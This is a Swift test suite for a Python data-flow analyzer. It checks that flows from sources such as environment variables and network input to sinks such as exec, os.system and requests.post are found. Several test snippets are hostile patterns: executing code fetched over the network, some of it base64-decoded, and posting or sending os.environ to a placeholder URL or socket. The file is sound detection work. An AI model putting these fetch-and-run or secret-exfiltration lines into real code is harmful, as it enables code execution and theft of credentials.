import PythonAnalysis
import PythonSyntax
import Testing

private let query = FlowQuery(
    sources: [
        .init("os.environ", .value), .init("os.getenv", .call), .init("requests.get", .call), .init("*.recv", .call),
        .init("handle.request", .parameter),
    ],
    sinks: [
        .init("exec"), .init("os.system"), .init("requests.post", arguments: [.keyword("data"), .position(1)]), .init("*.send"),
    ])

private func flows(_ files: [(String, String)]) -> [DataFlow] {
    let package = PythonPackage(
        files: files.map { PythonPackage.File(path: $0, place: $0, python: PythonFile(Array($1.utf8))) })
    return PackageAnalysis(package, AnalysisOptions(collects: [], flows: query)).flows
}

private func flows(_ text: String) -> [DataFlow] { flows([("main.py", text)]) }

@Suite struct DataFlowTests {
    /// Each program lets a value of a source reach a sink.
    @Test(arguments: [
        ("directly", "import os\nos.system(os.getenv('X'))"),
        ("through variables", "import os\na = os.getenv('X')\nb = a\nc = 'echo ' + b\nos.system(c)"),
        ("through a format", "import os\nos.system(f\"echo {os.environ['X']!r}\")"),
        ("through a method of it", "import requests\nexec(requests.get('u').text.strip())"),
        ("through a list", "import os\nparts = ['sh', '-c']\nparts.append(os.getenv('X'))\nos.system(' '.join(parts))"),
        ("through a dictionary", "import os, requests\nd = {'k': 1}\nd['env'] = os.environ.copy()\nrequests.post('u', data=d)"),
        ("through a loop", "import os\nfor name in os.environ:\n  os.system(name)"),
        ("through a comprehension", "import os\nos.system(' '.join(k + v for k, v in os.environ.items()))"),
        ("through an argument", "import os\ndef run(c):\n  os.system(c)\nrun(os.getenv('X'))"),
        ("through a result", "import os\ndef read():\n  return os.getenv('X')\nos.system(read())"),
        (
            "through an attribute",
            "import os\nclass A:\n  def __init__(self):\n    self.c = os.getenv('X')\n  def run(self):\n    os.system(self.c)\nA().run()"
        ),
        (
            "through a method that nobody calls",
            "import os\nclass A:\n  def __init__(self):\n    self.c = os.getenv('X')\n  def run(self):\n    os.system(self.c)"
        ),
        (
            "through a closure",
            "import os\ndef make():\n  c = os.getenv('X')\n  def run():\n    os.system(c)\n  return run\nmake()()"
        ),
        (
            "through a global",
            "import os\nC = None\ndef read():\n  global C\n  C = os.getenv('X')\ndef run():\n  os.system(C)\nread()\nrun()"
        ),
        ("through an unknown function", "import os, lib\nos.system(lib.clean(os.getenv('X')))"),
        (
            "through an object of another library",
            "import os, lib\nb = lib.Buffer()\nb.write(os.getenv('X'))\nos.system(b.getvalue())"
        ),
        (
            "through a decorator's wrapper",
            "import os\ndef deco(f):\n  def inner(*a):\n    return f(*a)\n  return inner\n@deco\ndef run(c):\n  os.system(c)\nrun(os.getenv('X'))"
        ),
        ("in one of two branches", "import os\nc = 'ls'\nif len(input()):\n  c = os.getenv('X')\nos.system(c)"),
        ("by a callback", "import os\nlist(map(os.system, [os.getenv('X')]))"),
        ("through partial", "import os, functools\nf = functools.partial(os.system, os.getenv('X'))\nf()"),
        ("through try", "import os\ntry:\n  c = os.getenv('X')\nexcept KeyError:\n  c = ''\nos.system(c)"),
        ("from a parameter", "import os\ndef handle(request):\n  os.system(request.body)"),
        ("from a name that does not resolve", "def loop(s):\n  exec(s.recv(1024))"),
        ("to a name that does not resolve", "import os\ndef leak(s):\n  s.send(os.environ)"),
        ("through decoding", "import requests, base64\nexec(base64.b64decode(requests.get('u').content).decode())"),
        ("from a match", "import os\nmatch os.getenv('X'):\n  case str(c):\n    os.system(c)"),
    ])
    func isFound(way: String, program: String) {
        #expect(!flows(program).isEmpty, "\(way)")
    }

    /// No value of a source reaches a sink here.
    @Test(arguments: [
        ("nothing is passed", "import os\nx = os.getenv('X')\nos.system('ls')"),
        ("it is overwritten", "import os\nx = os.getenv('X')\nx = 'ls'\nos.system(x)"),
        ("another argument", "import os, requests\nrequests.post(os.getenv('URL'), data={'a': 1})"),
        ("another variable of the same name", "import os\ndef f():\n  x = os.getenv('X')\ndef g(x='ls'):\n  os.system(x)"),
        ("another function of the name", "import os\ndef system(x): pass\nsystem(os.getenv('X'))"),
        (
            "another instance",
            "import os\nclass A:\n  def __init__(self, c): self.c = c\na = A(os.getenv('X'))\nb = A('ls')\nos.system(b.c)"
        ),
        ("before it comes in", "import os\nx = 'ls'\nos.system(x)\nx = os.getenv('X')"),
    ])
    func isNotFound(why: String, program: String) {
        #expect(flows(program).isEmpty, "\(why)")
    }

    @Test func aFlowSaysWhereItWent() throws {
        let found = flows("import os\na = os.getenv('X')\ndef run(c):\n  os.system(c)\nrun(a)\n")
        let flow = try #require(found.first)
        #expect(found.count == 1 && flow.sinkNames == ["os.system"] && flow.argument == .position(0))
        #expect(flow.origin.line == 2 && flow.place.line == 4)
        #expect(flow.steps.map(\.line) == [2, 2, 3])
    }

    @Test func aFlowCrossesFiles() throws {
        let found = flows([
            ("pkg/__init__.py", ""), ("pkg/read.py", "import os\ndef token():\n    return os.environ['T']\n"),
            ("pkg/send.py", "import requests\nfrom .read import token\ndef main():\n    requests.post('u', data=token())\n"),
        ])
        let flow = try #require(found.first)
        #expect(flow.origin.path == "pkg/read.py" && flow.place.path == "pkg/send.py" && flow.argument == .keyword("data"))
    }
}
